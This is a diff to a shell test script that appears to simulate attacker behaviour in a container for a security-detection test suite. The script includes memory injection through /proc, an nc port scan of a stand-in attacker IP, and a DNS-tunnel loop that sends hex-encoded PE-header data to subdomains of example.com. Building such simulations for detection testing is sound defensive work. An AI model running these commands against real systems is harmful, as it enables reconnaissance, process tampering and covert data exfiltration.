@@ -81,7 +81,10 @@ play_self_delete() { in_container client 'cp /bin/busybox /tmp/rm && /tmp/rm /tm
 
 play_injection() { in_container client 'sleep 2 & exec 7<>/proc/$!/mem && echo opened' | grep -q opened; }
 
-play_port_scan() { in_container client "for p in \$(seq 1000 1025); do nc -w 1 $ATTACKER_IP \$p </dev/null || echo closed; done" 2>/dev/null | grep -q closed; }
+play_port_scan() {
+	# One line at the end: grep stops to read behind the first that it looks for, and a second one would end the scan.
+	in_container client "closed=0; for p in \$(seq 1000 1025); do nc -w 1 $ATTACKER_IP \$p </dev/null || closed=\$((closed + 1)); done; echo closed \$closed" 2>/dev/null | grep -qx 'closed 26'
+}
 
 play_dns_tunnel() {
 	in_container client "for i in \$(seq 10 27); do timeout 1 nslookup \${i}4d5a90000300000004000000ffff0000b800000000000000.t.example.com >/dev/null 2>&1 & done; wait; echo sent" | grep -q sent
